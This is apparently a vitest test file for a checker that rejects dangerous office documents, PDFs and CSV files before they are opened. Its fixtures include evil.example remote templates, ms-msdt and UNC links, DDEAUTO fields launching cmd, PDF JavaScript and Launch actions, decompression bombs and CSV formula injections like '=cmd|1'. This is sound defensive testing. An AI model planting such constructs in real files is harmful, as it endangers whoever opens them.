import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { describeFile } from '#kernel/evidence-file.ts';
import { bareWorkbook } from '../../../test/support/bare-workbook.ts';
import { zipArchive } from '../../../test/support/zip-archive.ts';
import { writeWorkbook } from '../workbook.ts';
import { whatWouldRun } from './what-would-run.ts';

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const types = (more = '') => `<?xml version="1.0" encoding="UTF-8"?><Types><Default Extension="xml"/>${more}</Types>`;
const relation = (attributes: string) => `<Relationships><Relationship Id="r1" ${attributes}/></Relationships>`;
const text = '<w:document><w:p><w:t>Certificate</w:t></w:p></w:document>';

/** A text document of these parts beside what each has. */
const docx = (parts: Readonly<Record<string, string | Buffer>> = {}) =>
  zipArchive(
    Object.fromEntries(
      Object.entries({ '[Content_Types].xml': types(), 'word/document.xml': text, ...parts }).map(([name, part]) => [
        name,
        Buffer.from(part),
      ]),
    ),
  );
const rels = (attributes: string) => docx({ 'word/_rels/document.xml.rels': relation(attributes) });
const pdf = (...parts: readonly (string | Buffer)[]) =>
  Buffer.concat([Buffer.from('%PDF-1.7\n'), ...parts.map((part) => Buffer.from(part)), Buffer.from('\n%%EOF')]);
const packed = (words: string, about = '/Filter /FlateDecode') =>
  pdf(`1 0 obj << ${about} >>\nstream\n`, deflateSync(Buffer.from(words)), '\nendstream endobj');

async function found(name: string, bytes: Buffer): Promise<string | null> {
  const { file, why } = describeFile(name, bytes);
  return file === null ? why : await whatWouldRun(file, bytes);
}

describe('a proof that is to be read and no more', () => {
  it.each([
    ['a text document', 'a.docx', docx()],
    [
      'one with a link',
      'a.docx',
      rels(`Type="${office}/hyperlink" Target="https://iso.org/link/import" TargetMode="External"`),
    ],
    ['one with a field of the page', 'a.docx', docx({ 'word/footer1.xml': '<w:instrText> PAGE </w:instrText>' })],
    ['a workbook that names its types', 'a.xlsx', docx({ 'xl/worksheets/sheet1.xml': '<f>SUM(A1:A2)</f>' })],
    ['a PDF with pages and links', 'a.pdf', packed('BT (Our JavaScript policy, see /JS) Tj ET')],
    [
      'a PDF whose packed objects are pages',
      'a.pdf',
      packed('<< /Type /Page >>', '/Type /ObjStm /First 10 /Filter /FlateDecode'),
    ],
    [
      'a PDF with a picture of any bytes',
      'a.pdf',
      pdf('2 0 obj << /Subtype /Image >>\nstream\n', Buffer.alloc(99, 7), '\nendstream'),
    ],
    ['a table of numbers', 'a.csv', Buffer.from('name,change\nn@example.org,-3.5\n"a, b",+4')],
  ])('is taken: %s', async (_, name, bytes) => expect(await found(name, bytes)).toBeNull());

  it('may be a workbook that was written here', async () => {
    expect(
      await found('a.xlsx', await writeWorkbook([{ name: 'Tests', rows: [['day'], ['2026-11-22']] }], {})),
    ).toBeNull();
  });
});

describe('a file that would harm whoever opens it', () => {
  it.each([
    ['macros', docx({ 'word/vbaProject.bin': 'x' }), /macros/],
    [
      'macros under another name',
      docx({ '[Content_Types].xml': types('<Override ContentType="application/vnd.ms-office.vbaProject"/>') }),
      /macros/,
    ],
    [
      'macros by a letter’s number',
      rels(`Type="http://schemas.microsoft.com/office/2006/relationships/vba&#80;roject" Target="x"`),
      /macros/,
    ],
    ['a control', docx({ 'word/activeX/activeX1.xml': '<x/>' }), /controls/],
    ['old macro sheets', docx({ 'xl/macrosheets/sheet1.xml': '<x/>' }), /macros/],
    ['a program inside', docx({ 'word/embeddings/oleObject1.bin': 'MZ' }), /other files/],
    ['another document inside', rels(`Type="${office}/aFChunk" Target="chunk.html"`), /other files/],
    [
      'a template from elsewhere',
      rels(`Type="${office}/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"`),
      /loads something/,
    ],
    [
      'a picture from elsewhere',
      rels(`Type='${office}/image' Target='https://evil.example/a.png' TargetMode='&#x45;xternal'`),
      /loads something/,
    ],
    [
      'a link that starts a program',
      rels(`Type="${office}/hyperlink" Target="ms-msdt:/id" TargetMode="External"`),
      /loads something/,
    ],
    [
      'a link to a file share',
      rels(`Type="${office}/hyperlink" Target="\\\\evil.example\\a" TargetMode="External"`),
      /loads something/,
    ],
    [
      'a field that starts a program',
      docx({ 'word/document.xml': '<w:instrText> DDE</w:instrText><w:r/><w:instrText>AUTO c:\\cmd</w:instrText>' }),
      /loads something/,
    ],
    [
      'such a field in one piece',
      docx({ 'word/document.xml': '<w:fldSimple w:instr="DDEAUTO c:\\cmd">' }),
      /loads something/,
    ],
    ['an entity', docx({ 'word/document.xml': '<!DOCTYPE a [<!ENTITY b "c">]>' }), /cannot be read/],
    [
      'parts in a hidden encoding',
      docx({ 'word/_rels/a.xml.rels': Buffer.from(relation('Type="x"'), 'utf16le') }),
      /cannot be read/,
    ],
    ['a bomb', docx({ 'word/media/a.xml': Buffer.alloc(65 * 1024 * 1024) }), /64 MB/],
    ['no document at all', zipArchive({ 'a.txt': Buffer.from('a') }), /cannot be read/],
    ['a damaged archive', docx().subarray(0, 200), /cannot be read/],
    ['a workbook without its types', bareWorkbook(['<c/>']), /cannot be read/],
  ])('is refused: a document with %s', async (_, bytes, words) => {
    expect(await found('a.docx', bytes)).toMatch(words);
    expect(await found('a.xlsx', bytes)).toMatch(words);
  });

  it('is refused: an archive that says less than it unpacks to', async () => {
    const honest = docx({ 'word/media/a.xml': Buffer.alloc(40 * 1024 * 1024) });
    const at = honest.lastIndexOf(Buffer.from('word/media/a.xml')) - 22;
    honest.writeUInt32LE(100, at);
    expect(await found('a.docx', honest)).toMatch(/cannot be read/);
  });

  it.each([
    ['a script', pdf('<< /S /JavaScript /JS (app.alert(1)) >>'), /script/],
    ['a script by a letter’s number', pdf('<< /S /Java#53cript >>'), /script/],
    ['a program that is started', pdf('<< /S /Launch /F (cmd.exe) >>'), /script/],
    ['a form that sends data', pdf('<< /S /SubmitForm >>'), /script/],
    ['a file inside', pdf('<< /Type /EmbeddedFile >>'), /other files/],
    ['a script in packed objects', packed('<< /JS 5 0 R >>', '/Type /ObjStm /First 10 /Filter /FlateDecode'), /script/],
    [
      'packed objects that say that they are a picture',
      packed('<< /JS 5 0 R >>', '/Subtype /Image /Type /Obj#53tm'),
      /script/,
    ],
    [
      'a heading too long to be read',
      packed('x', `/Type /ObjStm ${' '.repeat(5000)} /Subtype /Image /Filter /LZWDecode`),
      /protected/,
    ],
    ['objects packed twice', packed('x', '/Type /ObjStm /First 1 /Filter [/ASCII85Decode /FlateDecode]'), /protected/],
    ['objects that cannot be unpacked', pdf('1 0 obj << /Type /ObjStm >>\nstream\nxyz\nendstream'), /protected/],
    [
      'the end of a stream within it',
      pdf('1 0 obj <<>>\nstream\n', deflateSync(Buffer.from('endstream /JS (x)'), { level: 0 })),
      /script/,
    ],
    ['a password', pdf('trailer << /Encrypt 9 0 R >>'), /protected/],
    ['a bomb', packed('x'.repeat(129 * 1024 * 1024)), /128 MB/],
  ])('is refused: a PDF with %s', async (_, bytes, words) => expect(await found('a.pdf', bytes)).toMatch(words));

  it.each(['=cmd|1', 'a,=1+1', 'a\n@SUM(1)', '"=1"', 'a;+cmd', '\t=1', '\uFEFF=1'])(
    'is refused: a table with the formula %j',
    async (words) => expect(await found('a.csv', Buffer.from(words))).toMatch(/formula/),
  );
});
